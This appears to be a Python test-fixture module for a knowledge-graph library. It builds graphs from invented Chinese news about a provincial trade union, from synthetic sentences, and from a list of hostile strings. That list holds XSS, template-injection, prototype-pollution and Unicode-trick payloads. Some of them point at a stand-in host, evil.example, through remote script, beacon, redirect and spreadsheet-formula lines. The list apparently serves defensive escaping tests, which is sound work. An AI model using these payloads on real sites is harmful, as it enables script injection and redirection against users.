"""Graphs to look at: a small one of invented news, a large one made by counting, and one whose every word is hostile."""

from __future__ import annotations

from collections.abc import Sequence

from kg.graph import Graph, gather
from kg.model import (
    Article,
    Assertion,
    Capture,
    Document,
    Entity,
    Evidence,
    Link,
    Literal,
    Mention,
    Reading,
    Resolved,
    Source,
)

BASE = "https://example.org/id/"

UNION = Entity("MassOrganisation", "甲省总工会", ("甲省总工会", "省总工会", "省总"))
BUREAU = Entity("StateBody", "甲省人力资源和社会保障厅", ("甲省人力资源和社会保障厅", "省人社厅"))
CONGRESS = Entity("StateBody", "甲省人民代表大会常务委员会", ("甲省人民代表大会常务委员会", "省人大常委会"))
COLLEGE = Entity("Institution", "甲省工运学院", ("甲省工运学院",))
RULES = Entity(
    "LocalRegulation", "甲省职工权益保护条例", ("甲省职工权益保护条例", "职工权益保护条例", "条例")
)
LAW = Entity("Statute", "中华人民共和国工会法", ("中华人民共和国工会法", "工会法"))
NOTICE = Entity("PolicyDocument", "关于做好夏季送清凉工作的通知", ("关于做好夏季送清凉工作的通知",))
REST = Entity("Campaign", "“暖心驿站”行动", ("“暖心驿站”行动", "暖心驿站"))
COOL = Entity("Campaign", "夏季送清凉活动", ("夏季送清凉活动", "送清凉"))
SCHOOL = Entity("Platform", "工匠讲堂", ("工匠讲堂",))
CLEANERS = Entity("Group", "环卫工人", ("环卫工人",))
MEETING = Entity(
    "Event", "甲省人民代表大会常务委员会第三次会议", ("甲省人民代表大会常务委员会第三次会议", "第三次会议")
)
LI = Entity("Person", "李四维@甲省总工会", ("李四维",))
CHAIR = Entity("Post", "甲省总工会#主席", ("主席",), UNION)

NEWS = "甲省/动态.txt"
NEWS_TEXT = (
    "甲省动态\n"
    "甲省总工会要持续开展“暖心驿站”行动，为环卫工人送去热水和药箱。入夏以来，省总还联合省人社厅启动夏季送清凉活动；"
    "各地同步铺开。\n"
    "2023年5月8日，甲省人民代表大会常务委员会第三次会议表决通过了《甲省职工权益保护条例》。"
    "条例依据《中华人民共和国工会法》制定，对“暖心驿站”行动作出规定。\n"
    "甲省总工会主席李四维说：“要把工匠讲堂办到车间里。”\n"
)
PAPER = "甲省/通知.md"
PAPER_TEXT = (
    "# 关于做好夏季送清凉工作的通知\n\n"
    "甲省总工会、甲省人力资源和社会保障厅：\n\n"
    "各单位应当继续推进夏季送清凉活动，\n面向环卫工人发放清凉包。\n"
    "- 甲省工运学院承办工匠讲堂。\n"
)

# subject, predicate, object, rule, the words matched, the words of subject and object in them, modality
Stated = tuple[Entity, str, Entity | Literal, str, str, str, str, str]
NEWS_FACTS: tuple[Stated, ...] = (
    (UNION, "implements", REST, "runs", "甲省总工会要持续开展“暖心驿站”行动", "甲省总工会", "“暖心驿站”行动", "required"),
    (REST, "targets", CLEANERS, "meant-for", "“暖心驿站”行动，为环卫工人送去", "“暖心驿站”行动", "环卫工人", ""),
    (UNION, "cooperatesWith", BUREAU, "together", "省总还联合省人社厅", "省总", "省人社厅", ""),
    (UNION, "implements", COOL, "runs", "省总还联合省人社厅启动夏季送清凉活动", "省总", "夏季送清凉活动", ""),
    (BUREAU, "implements", COOL, "runs", "省人社厅启动夏季送清凉活动", "省人社厅", "夏季送清凉活动", ""),
    (RULES, "adoptedAt", MEETING, "adopted-at-session", "甲省人民代表大会常务委员会第三次会议表决通过了《甲省职工权益保护条例》",
     "甲省职工权益保护条例", "甲省人民代表大会常务委员会第三次会议", ""),
    (RULES, "issuedBy", CONGRESS, "adopted-at-session", "甲省人民代表大会常务委员会第三次会议表决通过了《甲省职工权益保护条例》",
     "甲省职工权益保护条例", "甲省人民代表大会常务委员会", ""),
    (RULES, "dateAdopted", Literal("2023-05-08", "date"), "adopted-at-session",
     "2023年5月8日，甲省人民代表大会常务委员会第三次会议表决通过了《甲省职工权益保护条例》",
     "甲省职工权益保护条例", "2023年5月8日", ""),
    (RULES, "basedOn", LAW, "based-on", "条例依据《中华人民共和国工会法》制定", "条例", "中华人民共和国工会法", ""),
    (RULES, "stipulates", REST, "stipulates", "对“暖心驿站”行动作出规定", "", "“暖心驿站”行动", ""),
    (LI, "holdsPost", CHAIR, "office", "主席李四维", "李四维", "主席", ""),
    (CHAIR, "postIn", UNION, "office", "甲省总工会主席", "主席", "甲省总工会", ""),
    (LI, "affiliatedWith", UNION, "office", "甲省总工会主席李四维", "李四维", "甲省总工会", ""),
    (LI, "proposes", SCHOOL, "urges", "要把工匠讲堂办到车间里", "", "工匠讲堂", "required"),
)  # fmt: skip
PAPER_FACTS: tuple[Stated, ...] = (
    (NOTICE, "addressedTo", UNION, "addressed", "甲省总工会、甲省人力资源和社会保障厅：", "", "甲省总工会", ""),
    (NOTICE, "establishes", COOL, "starts", "应当继续推进夏季送清凉活动", "", "夏季送清凉活动", "required"),
    (COOL, "targets", CLEANERS, "meant-for", "夏季送清凉活动，\n面向环卫工人", "夏季送清凉活动", "环卫工人", "required"),
    (COLLEGE, "organises", SCHOOL, "hosts", "甲省工运学院承办工匠讲堂", "甲省工运学院", "工匠讲堂", ""),
    (UNION, "implements", COOL, "runs", "各单位应当继续推进夏季送清凉活动", "", "夏季送清凉活动", "required"),
)  # fmt: skip


def reading(path: str, text: str, stated: tuple[Stated, ...]) -> Reading:
    """A document of one article and what it states; an end that the words do not name is carried from the text's head."""
    document = Document(
        Source(path, "0" * 64, "text/plain", text), text, ((0, 0),), (), (Article(1, 0, len(text), path),)
    )
    links, assertions = [], []
    for subject, predicate, value, rule, words, one, other, modality in stated:
        start = text.index(words)
        captures = []
        for role, name in (("who", one), ("what", other)):
            if name:
                at = start + words.index(name)
                captures.append(Capture(role, at, at + len(name)))
            elif role == "who" and subject.names[0] in text[:start]:
                at = text.index(subject.names[0])
                captures.append(Capture(role, at, at + len(subject.names[0]), carried=True))
        captures.sort(key=lambda capture: capture.start)
        evidence = Evidence(path, start, start + len(words), words, rule, 1, modality, tuple(captures))
        assertions.append(Assertion(subject, predicate, value, evidence))
        links.append(Link(Mention(start, start + 1, subject.type, "test"), subject))
        if isinstance(value, Entity):
            links.append(Link(Mention(start, start + 1, value.type, "test"), value))
    return Reading(Resolved(document, tuple(links)), tuple(assertions))


def small() -> tuple[Graph, dict[str, str]]:
    """Fourteen entities, eighteen facts, two documents; one fact is said in both."""
    readings = (reading(NEWS, NEWS_TEXT, NEWS_FACTS), reading(PAPER, PAPER_TEXT, PAPER_FACTS))
    return gather(readings, BASE), {NEWS: NEWS_TEXT, PAPER: PAPER_TEXT}


def large(count: int) -> tuple[Graph, dict[str, str]]:
    """So many entities with two facts each, in one document of made sentences."""
    bodies = [
        Entity("StateBody", f"第{n}号局", (f"甲省第{n}号工作协调局", f"{n}号局")) for n in range(count // 6)
    ]
    laws = [Entity("Statute", f"第{n}号法", (f"第{n}号工作法",)) for n in range(count // 10)]
    rest = count - len(bodies) - len(laws)
    programmes = [Entity("Project", f"第{n}号工程", (f"第{n}号惠民便民服务提升工程",)) for n in range(rest)]
    lines, stated = [], []
    for n, programme in enumerate(programmes):
        body, law = (
            bodies[(n * 3 + n // 7) % len(bodies)],
            laws[(n * n) % len(laws) if n % 2 else n % len(laws)],
        )
        words = f"{body.names[0]}依照{law.names[0]}实施{programme.names[0]}"
        lines.append(f"{words}，成效明显。\n")
        stated.append((body, "implements", programme, "runs", words, body.names[0], programme.names[0], ""))
        stated.append(
            (law, "stipulates", programme, "stipulates", words, law.names[0], programme.names[0], "")
        )
        if n % 3 == 0:
            other = bodies[(n * 5 + 1) % len(bodies)]
            if other is not body:
                stated.append((other, "cooperatesWith", body, "together", words, "", body.names[0], ""))
    text = "".join(lines)
    return gather((reading("large.txt", text, tuple(stated)),), BASE), {"large.txt": text}


HOSTILE = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</ScRiPt ><ScRiPt>window.hacked=1</ScRiPt>",
    "<!--<script>window.hacked=1</script>",
    "]]></script><script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    "'><svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    '<a href="javascript:window.hacked=1">点我</a>',
    "<style>*{display:none}</style>",
    "</style><style>*{display:none!important}</style>",
    "</title><script>window.hacked=1</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<img src=https://evil.example/beacon.png>",
    "{{ 7*7 }}{% for x in y %}",
    "${window.hacked=1}",
    "`;window.hacked=1;//",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\u2028window.hacked=1\u2029",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "__proto__",
    "constructor",
    "toString",
    "\u202e法民公\u202c",
    "\u2066甲\u2069\u200b\u200d\ufeff乙",
    "\x00\x01\x08\x1b[31m红",
    "半个\ud800字",
    "长" * 100_000,
    "A" * 3_000,
    "甲\n乙\t丙\r丁",
    "   ",
    "<script src=https://evil.example/a.js></script>",
    "<svg><script>window.hacked=1</script></svg>",
    "<math><mtext></mtext><script>window.hacked=1</script></math>",
    "<img/src/onerror=window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<form action=javascript:window.hacked=1><button>按</button></form>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "');window.hacked=1;('",
    '";window.hacked=1;"',
    "*/window.hacked=1/*",
    "</text></svg><script>window.hacked=1</script>",
    "url(https://evil.example/a.png)",
    "expression(window.hacked=1)",
    "@import 'https://evil.example/a.css';",
    "position:fixed;top:0;left:0;width:100vw;height:100vh",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "＜script＞window.hacked=1＜/script＞",
    "=HYPERLINK('https://evil.example','按')",
    "#near=1,../../甲&thing=乙",
    "甲~乙,丙|丁 戊",
    "e\u0301" * 400,
    "行" * 300 + "，" + "政" * 300,
    "hasOwnProperty",
    "🏛️👩‍⚖️" * 30,
)


def hostile() -> tuple[Graph, dict[str, str]]:
    """Every hostile text as a name, another name, a sentence, a path, a title and a rule's id."""
    readings = hostile_readings()
    texts = {one.document.path: one.document.text for one in readings}
    return gather(readings, BASE), texts


def hostile_readings(words: Sequence[str] = HOSTILE) -> list[Reading]:
    """A document for each hostile text."""
    readings = []
    for number, text in enumerate(words):
        path = f"{number} {text[:40]}.txt"
        words = f"前{text}后"
        body = Entity("StateBody", f"{number}{text[:200]}", (text, f"{number}{text[:80]}"))
        law = Entity("Statute", f"{number}{text[:200]}", (f"《{text[:500]}》",))
        day = Literal(text[:300])
        whole = f"一。{words}。二"
        stated: tuple[Stated, ...] = (
            (law, "issuedBy", body, text[:40] or "rule", words, "", text, text[:20]),
            (law, "documentNumber", day, "number", words, "", text, ""),
            (
                body,
                "implements",
                Entity("Project", str(number), (f"工程{number}{text[:60]}",)),
                "runs",
                words,
                text,
                "",
                "",
            ),
        )
        readings.append(reading(path, whole, stated))
    return readings
